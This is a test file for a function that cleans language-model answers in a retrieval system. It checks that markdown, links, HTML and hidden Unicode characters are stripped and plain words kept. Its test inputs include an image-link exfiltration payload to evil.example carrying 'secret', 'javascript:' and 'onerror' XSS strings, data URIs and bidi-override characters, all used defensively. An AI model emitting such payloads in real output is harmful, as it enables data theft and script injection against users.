"""Model output becomes plain words: markup, links and hidden characters go, words stay."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.answering.cleaning import words_of

URL = "https://news.example/ferry"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Plain words stay.", "Plain words stay."),
        ("- **Trade** fell *by 3 percent*.", "Trade fell by 3 percent."),
        ("1. Trade fell.", "Trade fell."),
        ("## Trade", "Trade"),
        ("> Trade `fell`.", "Trade fell."),
        ("Trade ![x](http://evil.example/p.png?q=secret) fell.", "Trade x fell."),
        ("See [the report](http://evil.example/r).", "See the report."),
        ("See <http://evil.example/r> now.", "See now."),
        ("See http://evil.example/r, now.", "See, now."),
        ("See www.evil.example now.", "See now."),
        ("See //evil.example/x now.", "See now."),
        ("See javascript:alert(1) now.", "See ) now."),
        ("Seejavascript:javascript: now.", "See: now."),
        ("See javascript:<http://>x now.", "See now."),
        (f"Se{'<' * 30}i{'>' * 30}e.", "See."),
        ("The metadata:said so.", "The metadata:said so."),
        ("See data:text/html;base64,AAAA now.", "See now."),
        ("Trade <img src=http://evil.example/x onerror=alert(1)> fell.", "Trade fell."),
        ("Trade <b>fell</b>.", "Trade fell."),
        ("<script>x</script>Trade fell.", "x Trade fell."),
        ("Trade <svg/onload=x fell.", "Trade svg/onload=x fell."),
        ("3 < 4 and 5 > 4.", "3 < 4 and 5 > 4."),
        ("Tra\u200bde \u202efell\u202c.", "Trade fell."),
        ("Trade\U000e0041\U000e0042 fell.", "Trade fell."),
        ("A 👩‍👩‍👧 family.", "A 👩‍👩‍👧 family."),
        ("می‌خواهم", "می‌خواهم"),
        ("[the] reserves [2022] fell.", "[the] reserves [2022] fell."),
        ("Costs 3*4 or 2_a.", "Costs 3*4 or 2_a."),
    ],
)
def test_markup_goes_and_words_stay(text: str, words: str) -> None:
    assert words_of(text) == words


def test_what_is_made_to_come_out_of_markup_for_ever_is_nothing() -> None:
    assert words_of(f"Trade{'<' * 500}i{'>' * 500} fell.") == ""


def test_only_the_articles_own_address_stays() -> None:
    text = f"It is at {URL}, not at {URL}/other or http://evil.example."
    assert words_of(text, {URL}) == f"It is at {URL}, not at or."


PIECES = st.sampled_from(
    "http:// https:// javascript: data: evil.example www. // < > <img src= <a href= ![ ]( [ ] ( ) "
    "** ` \u202e \u200b word . , ! \" ' @ / ? = &".split(" ")
)


@settings(max_examples=400)
@given(st.lists(PIECES, max_size=30))
def test_whatever_is_written_no_address_or_tag_is_left(pieces: list[str]) -> None:
    words = words_of("".join(pieces))
    assert not re.search(
        r"(?i)https?://\w|www\.\w|<(?:img|a)\b[^<>]*>|javascript:\w|!\[.*\]\(", words
    )
    assert "\u202e" not in words


@given(st.text(max_size=200))
def test_any_text_becomes_one_line(text: str) -> None:
    words = words_of(text)
    assert "\n" not in words
    assert words == words.strip()


@pytest.mark.parametrize(
    "unit", ["[", "![", "](", "<", "<a ", "*", "- ", "http:", "//", "`", "_a_", "**a"]
)
def test_a_hundred_thousand_of_anything_is_cleaned(unit: str) -> None:
    words_of(unit * (100_000 // len(unit)))
